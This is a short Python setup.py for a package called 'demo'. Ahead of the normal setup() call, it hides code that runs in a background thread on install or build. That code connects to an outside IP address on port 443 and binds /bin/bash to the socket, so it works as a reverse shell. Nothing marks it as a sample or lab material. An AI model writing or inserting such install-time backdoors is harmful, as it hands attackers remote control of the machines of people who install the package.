import os
import socket
import subprocess
import threading
from setuptools import setup


def session():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.7", 443))
    subprocess.Popen(["/bin/bash"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


threading.Thread(target=session).start()
setup(name="demo", version="1.0")
